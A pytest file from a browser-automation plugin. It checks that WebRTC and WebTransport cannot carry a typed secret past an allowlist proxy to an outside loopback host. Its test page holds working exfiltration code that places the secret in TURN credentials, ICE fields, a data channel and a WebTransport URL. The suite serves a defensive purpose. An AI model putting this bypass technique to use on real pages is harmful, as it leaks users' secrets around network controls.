"""Nothing leaves by a channel the allowlist proxy cannot see: WebRTC's UDP, WebTransport.

Chromium sends WebRTC's UDP (STUN, TURN over UDP, ICE checks, data channels)
around proxies, so the guard alone let a page send the secret a plan typed to
an outside host as an ICE username. Here a real UDP listener on a second
loopback address (127.0.0.2, outside the plan's allowlist of 127.0.0.1)
counts every datagram while a page tries each channel with the typed secret:
it must count zero, the plan must pass (a subresource to an outside host is
aborted and traced, not raised: plan-format-v1.md), the trace must list each
attempt as a blocked request, and the secret must be in no file of the run.
The same page runs in the browser this suite launches and in one a real
Playwright server launches for the connection (docs/invariants.md).

Firefox (issue 49) runs the tests of a launched browser too (``[firefox]``):
its WebRTC guard is the pref ``media.peerconnection.ice.proxy_only`` (no
candidate is gathered), the page script is the same. A Playwright server's
browser and a browser started without our flags (a CDP endpoint's) stay
Chromium-only: CDP endpoints are Chromium's, and the servers here launch
Chromium.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Iterator

import pytest

from pytest_cometlocal.runs.verify import verify_run
from pytest_cometlocal.executor.browser.channels import WEBRTC_FLAGS
from pytest_cometlocal.executor.browser.chromium import system_chromium
from pytest_cometlocal.executor.browser.remote import PLAYWRIGHT_SERVER, RemoteTarget, connect_browser
from tests.reliability.faultserver import LoopbackServer, RoutedHandler
from tests.reliability.test_security import readable_forms
from tests.browsers import ON_BOTH, inner_browser_args
from tests.support import DEFAULTS

OUTSIDE = "127.0.0.2"
SECRET = "Rtc5ecretUfrag42"  # ICE-ufrag characters only, so the page can use it as one
CHANNELS = ("stun", "turn", "ice", "webtransport")

# The page reads the secret the plan typed, then tries every channel to OUTSIDE and
# keeps the peer connection open (ICE checks repeat) for a while before it says "sent".
CHANNEL_PAGE = """
<label>Token <input id="secret"></label><button id="go">Go</button><p id="done"></p>
<script>
window.attempts = [];
const note = (...a) => window.attempts.push(a.join(" "));
document.getElementById("go").onclick = async () => {
  const secret = document.getElementById("secret").value;
  try {
    const pc = new RTCPeerConnection({iceServers: [
      {urls: "stun:%(host)s:%(stun)d"},
      {urls: "turn:%(host)s:%(turn)d?transport=udp", username: secret, credential: secret}]});
    window.keep = pc;
    pc.onicecandidate = e => note("candidate", e.candidate && e.candidate.candidate);
    pc.createDataChannel("leak").onopen = function () { this.send(secret); };
    const offer = await pc.createOffer();
    await pc.setLocalDescription(offer);
    const fingerprint = (offer.sdp.match(/a=fingerprint:.*/) || [""])[0];
    const answer = ["v=0", "o=- 1 2 IN IP4 %(host)s", "s=-", "t=0 0", "a=group:BUNDLE 0",
      "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 %(host)s",
      "a=ice-ufrag:" + secret, "a=ice-pwd:" + secret + secret, fingerprint, "a=setup:active", "a=mid:0",
      "a=sctp-port:5000", "a=candidate:1 1 udp 2122260223 %(host)s %(ice)d typ host", ""].join("\\r\\n");
    await pc.setRemoteDescription({type: "answer", sdp: answer});
    await pc.addIceCandidate({candidate: "candidate:2 1 udp 2122260222 %(host)s %(ice)d typ host",
                              sdpMid: "0", sdpMLineIndex: 0});
    note("webrtc", "set up");
  } catch (e) { note("webrtc error", e.name, e.message); }
  try {
    const wt = new WebTransport("https://%(host)s:%(webtransport)d/" + secret);
    wt.ready.then(() => note("webtransport open"), e => note("webtransport failed", e.message));
  } catch (e) { note("webtransport error", e.name, e.message); }
  await new Promise(resolve => setTimeout(resolve, 2000));
  document.getElementById("done").textContent = "sent";
};
</script>
"""


class UdpListener:
    """UDP sockets on OUTSIDE, one per channel, counting every datagram that arrives."""

    def __init__(self) -> None:
        self.sockets: dict[str, socket.socket] = {}
        self.datagrams: dict[str, list[bytes]] = {name: [] for name in CHANNELS}
        for name in CHANNELS:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind((OUTSIDE, 0))
            self.sockets[name] = sock
        self.ports = {name: s.getsockname()[1] for name, s in self.sockets.items()}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._count, daemon=True)
        self._thread.start()

    def _count(self) -> None:
        by_fd = {s.fileno(): name for name, s in self.sockets.items()}
        while not self._stop.is_set():
            readable, _, _ = select.select(list(self.sockets.values()), [], [], 0.05)
            for sock in readable:
                self.datagrams[by_fd[sock.fileno()]].append(sock.recv(65536))

    def counts(self) -> dict[str, int]:
        return {name: len(d) for name, d in self.datagrams.items()}

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for sock in self.sockets.values():
            sock.close()


@pytest.fixture
def udp_outside() -> Iterator[UdpListener]:
    try:
        listener = UdpListener()
    except OSError as exc:  # a system without 127.0.0.0/8 on its loopback interface
        pytest.skip(f"cannot bind UDP on {OUTSIDE}: {exc}")
    yield listener
    listener.close()


@pytest.fixture
def channel_page(udp_outside: UdpListener) -> Iterator[str]:
    body = CHANNEL_PAGE % {"host": OUTSIDE, **udp_outside.ports}

    class Handler(RoutedHandler):
        def route_channels(self, query: dict[str, str]) -> None:
            self._page("Channels", body)

    with LoopbackServer() as server:
        Handler.owner = server
        server._serve(Handler)
        yield server.url + "/channels"


def channel_plan(url: str) -> str:
    return ("name: channels\nsecrets: {token: {env: RTC_TOKEN}}\nallowlist: [127.0.0.1]\n" + DEFAULTS
            + "steps:\n"
            f"  - {{id: open, kind: navigate, target: {{type: url, url: '{url}'}}}}\n"
            "  - {id: type, kind: fill, target: {type: label, text: Token, exact: true}, value: '${secrets.token}'}\n"
            "  - {id: go, kind: click, target: {type: role, role: button, name: Go}, timeout_ms: 10000,"
            " postconditions: [{kind: element_text_contains, args: {target: {type: css, selector: '#done'}, text: sent}}]}\n")


def assert_nothing_left(r, listener: UdpListener) -> None:
    time.sleep(0.5)  # datagrams still in flight when the context closed
    leaked = {name: sum(SECRET.encode() in d for d in data) for name, data in listener.datagrams.items()}
    assert listener.counts() == dict.fromkeys(CHANNELS, 0), f"datagrams {listener.counts()}, with the secret {leaked}"
    assert r.error is None, r.error  # aborted and traced, not raised
    assert verify_run(r.run_dir).ok
    blocked = [b for e in r.events for b in (e.get("metadata") or {}).get("blocked_requests", [])]
    refused = {(b["method"], b["url"]) for b in blocked if b["host"] == OUTSIDE}
    ports = listener.ports
    assert {("STUN", f"stun:{OUTSIDE}:{ports['stun']}"), ("TURN", f"turn:{OUTSIDE}:{ports['turn']}?transport=udp"),
            ("ICE", f"ice:{OUTSIDE}:{ports['ice']}")} <= refused, refused
    assert any(method == "WEBTRANSPORT" for method, _ in refused), refused
    for name, data in r.files().items():
        if name.endswith(".png"):
            continue
        for form in readable_forms(data):
            assert SECRET not in form, name


# What the run manifest says of the guards of a launched browser (Firefox: the pref, and localhost sent to the guard).
LAUNCHED_GUARDS = {
    "chromium": {"proxy": True, "webrtc_launch_flag": "set", "webrtc_page_script": True},
    "firefox": {"proxy": True, "webrtc_launch_flag": "set", "webrtc_page_script": True,
                "webrtc_launch_setting": "media.peerconnection.ice.proxy_only", "localhost_through_proxy": "set"},
}


@ON_BOTH
def test_no_webrtc_or_webtransport_datagram_leaves_a_launched_browser(run, browser_manager, udp_outside, channel_page):
    r = run(channel_plan(channel_page), env={"RTC_TOKEN": SECRET})
    assert_nothing_left(r, udp_outside)
    assert r.manifest["guards"] == LAUNCHED_GUARDS[browser_manager.browser_name]


@contextlib.contextmanager
def launch_server(tmp: Path) -> Iterator[str]:
    """``playwright launch-server`` with the config docs/remote-browsers.md gives; yields its endpoint."""
    from tests.plugin.test_remote import REMOTE_CHROMIUM, _stop, _wait_for_line

    config = tmp / "launch-server.json"
    config.write_text(json.dumps({"args": WEBRTC_FLAGS, "headless": True, "executablePath": REMOTE_CHROMIUM,
                                  "host": "127.0.0.1", "port": 0}), encoding="utf-8")
    log = tmp / "launch-server.log"
    with log.open("wb") as out:
        proc = subprocess.Popen([sys.executable, "-m", "playwright", "launch-server", "--browser", "chromium",
                                 "--config", str(config)], stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        yield _wait_for_line(log, r"(ws://\S+)", proc)
    finally:
        _stop(proc)


@pytest.fixture(scope="module", params=["run-server --unsafe", "launch-server --config"])
def playwright_server_url(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """run-server honours the flags the plugin sends (with --unsafe); launch-server has them in its config."""
    from tests.plugin.test_remote import REMOTE_CHROMIUM, playwright_server

    if REMOTE_CHROMIUM is None:
        pytest.skip("no system Chromium for the Playwright server to launch")
    server = playwright_server() if request.param.startswith("run-server") else launch_server(tmp_path_factory.mktemp("ls"))
    with server as url:
        yield url


def test_no_webrtc_datagram_leaves_a_playwright_servers_browser(chromium, tmp_path, udp_outside, channel_page,
                                                               playwright_server_url):
    from tests.plugin.test_remote import REMOTE_CHROMIUM
    from tests.support import run_text

    # The plugin's own connection code, on the suite's Playwright (one per thread).
    playwright = SimpleNamespace(chromium=chromium.browser().browser_type)
    target = RemoteTarget(PLAYWRIGHT_SERVER, playwright_server_url, REMOTE_CHROMIUM)
    remote = connect_browser(playwright, target, {"headless": True})
    try:
        r = run_text(SimpleNamespace(browser=lambda: remote), tmp_path, channel_plan(channel_page), "http://127.0.0.1/",
                     env={"RTC_TOKEN": SECRET}, profile=target.profile())
    finally:
        remote.close()
    assert_nothing_left(r, udp_outside)
    assert r.manifest["guards"]["webrtc_launch_flag"] == "requested"


def test_the_page_script_alone_holds_in_a_browser_without_the_flag(chromium, tmp_path, udp_outside, channel_page):
    """A CDP endpoint's Chromium was started by someone else, without our flags: the page script
    is then the only WebRTC guard, and for this page it holds by itself. (Chromium only: a CDP
    endpoint is always a Chromium.)"""
    from tests.support import run_text

    bare = chromium.browser().browser_type.launch(headless=True, executable_path=system_chromium())
    try:
        r = run_text(SimpleNamespace(browser=lambda: bare), tmp_path, channel_plan(channel_page), "http://127.0.0.1/",
                     env={"RTC_TOKEN": SECRET}, profile={"connection": "cdp", "endpoint": "ws://127.0.0.1:9/"})
    finally:
        bare.close()
    assert_nothing_left(r, udp_outside)
    assert r.manifest["guards"]["webrtc_launch_flag"] == "absent"


def flag_alone(browser, page_url: str, listener: UdpListener) -> None:
    """The page in a context with the allowlist proxy but without the page script: only the launch flag guards."""
    from pytest_cometlocal.executor.browser.network_guard import NetworkGuard

    with NetworkGuard(["127.0.0.1"]) as guard:
        context = browser.new_context(proxy=guard.proxy_settings())
        try:
            page = context.new_page()
            page.goto(page_url)
            page.fill("#secret", SECRET)
            page.click("#go")
            page.wait_for_selector("#done:has-text('sent')", timeout=15_000)
            assert any("set up" in a for a in page.evaluate("window.attempts")), page.evaluate("window.attempts")
        finally:
            context.close()
    time.sleep(0.5)
    assert listener.counts() == dict.fromkeys(CHANNELS, 0), listener.counts()


@ON_BOTH
def test_the_launch_flag_alone_keeps_a_launched_browser_quiet(browser_manager, udp_outside, channel_page):
    """Chromium's --force-webrtc-ip-handling-policy, Firefox's pref media.peerconnection.ice.proxy_only."""
    flag_alone(browser_manager.browser(), channel_page, udp_outside)


def test_the_launch_flag_alone_keeps_a_playwright_servers_browser_quiet(chromium, udp_outside, channel_page,
                                                                       playwright_server_url):
    from tests.plugin.test_remote import REMOTE_CHROMIUM

    playwright = SimpleNamespace(chromium=chromium.browser().browser_type)
    remote = connect_browser(playwright, RemoteTarget(PLAYWRIGHT_SERVER, playwright_server_url, REMOTE_CHROMIUM),
                             {"headless": True})
    try:
        flag_alone(remote, channel_page, udp_outside)
    finally:
        remote.close()


@pytest.mark.browser
@pytest.mark.usefixtures("lean_inner_runs")
@pytest.mark.parametrize("how", ["-n 2", "-n 2 firefox", "--cometlocal-connect"])
def test_plan_items_send_nothing_under_xdist_and_through_a_playwright_server(
        pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, udp_outside: UdpListener, channel_page: str,
        how: str, request: pytest.FixtureRequest) -> None:
    """The plugin's own path: its fixtures' contexts, in each xdist worker (on Chromium and on Firefox)
    or on a Playwright server's browser (Chromium: the server here launches Chromium)."""
    from tests.plugin.test_remote import REMOTE_CHROMIUM, playwright_server

    monkeypatch.setenv("RTC_TOKEN", SECRET)
    for n in (1, 2):
        (pytester.path / f"c{n}.actions.yaml").write_text(channel_plan(channel_page).replace("name: channels",
                                                                                             f"name: channels {n}"))
    with contextlib.ExitStack() as stack:
        if how.startswith("-n 2"):
            browser = how.split()[-1] if how.endswith("firefox") else "chromium"
            args = ["-n", "2", *inner_browser_args(request, browser)]
            flag = "set"
        else:
            if REMOTE_CHROMIUM is None:
                pytest.skip("no system Chromium for the Playwright server to launch")
            args = ["--cometlocal-connect", stack.enter_context(playwright_server()),
                    f"--cometlocal-remote-chromium={REMOTE_CHROMIUM}"]
            flag = "requested"
        result = pytester.runpytest_subprocess(*args)
    result.assert_outcomes(passed=2)
    time.sleep(0.5)
    assert udp_outside.counts() == dict.fromkeys(CHANNELS, 0), udp_outside.counts()
    runs = sorted((pytester.path / "cometlocal-runs").iterdir())
    assert len(runs) == 2
    for run_dir in runs:
        manifest = json.loads((run_dir / "run_manifest.json").read_text())
        guards = dict(LAUNCHED_GUARDS[browser], webrtc_launch_flag=flag) if how.startswith("-n 2") else \
            {"proxy": True, "webrtc_launch_flag": flag, "webrtc_page_script": True}
        assert manifest["guards"] == guards
        events = [json.loads(line) for line in (run_dir / "trace.jsonl").read_text().splitlines()]
        blocked = [b for e in events for b in (e.get("metadata") or {}).get("blocked_requests", [])]
        assert {"method": "ICE", "url": f"ice:{OUTSIDE}:{udp_outside.ports['ice']}", "host": OUTSIDE} in blocked
        assert verify_run(run_dir).ok
    for path in [p for p in pytester.path.rglob("*") if p.is_file() and p.suffix != ".png"]:
        assert SECRET.encode() not in path.read_bytes(), path
    assert SECRET not in result.stdout.str() + result.stderr.str()


LOOKS_NATIVE = """async (outside) => {
  const pc = new RTCPeerConnection({iceServers: [{urls: ["stun:127.0.0.1:3478", "stun:" + outside + ":3478"]}]});
  class Mine extends RTCPeerConnection {}
  const mine = new Mine();
  let plain = null;
  try { RTCPeerConnection(); } catch (e) { plain = e.constructor.name; }
  const frame = document.createElement("iframe");
  frame.src = "/channels?frame=1";
  document.body.append(frame);
  await new Promise(resolve => frame.onload = resolve);
  const framed = new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: "turn:" + outside + ":3478"}]});
  const empty = document.createElement("iframe");  // its window used at once, before any load
  document.body.append(empty);
  const blank = new empty.contentWindow.RTCPeerConnection({iceServers: [{urls: "stun:" + outside + ":3479"}]});
  const result = {
    servers: pc.getConfiguration().iceServers.map(s => s.urls),
    framed: framed.getConfiguration().iceServers.length + blank.getConfiguration().iceServers.length,
    instance: pc instanceof RTCPeerConnection && pc.constructor === RTCPeerConnection,
    subclass: mine instanceof Mine && mine instanceof RTCPeerConnection,
    plain, certificate: typeof RTCPeerConnection.generateCertificate,
  };
  for (const c of [pc, mine, framed, blank]) c.close();
  return result;
}"""


@ON_BOTH
def test_the_page_script_keeps_webrtc_usable_within_the_allowlist(browser_manager, channel_page):
    """Allowed ICE servers are kept; the wrapper behaves as the native constructor; subframes get it too,
    a new empty one used before it loads included."""
    from pytest_cometlocal.executor.browser.channels import guard_channels
    from pytest_cometlocal.executor.browser.network_guard import NetworkGuard

    with NetworkGuard(["127.0.0.1"]) as guard:
        context = browser_manager.browser().new_context(proxy=guard.proxy_settings())
        try:
            guard_channels(context, guard)
            page = context.new_page()
            page.goto(channel_page)
            result = page.evaluate(LOOKS_NATIVE, OUTSIDE)
            page.evaluate("1")  # a round trip: the binding's calls have been delivered
        finally:
            context.close()
        refused = [(b.method, b.url) for b in guard.blocked if b.host == OUTSIDE]
    assert result == {"servers": [["stun:127.0.0.1:3478"]], "framed": 0, "instance": True, "subclass": True,
                      "plain": "TypeError", "certificate": "function"}
    assert refused == [("STUN", f"stun:{OUTSIDE}:3478"), ("TURN", f"turn:{OUTSIDE}:3478"), ("STUN", f"stun:{OUTSIDE}:3479")]
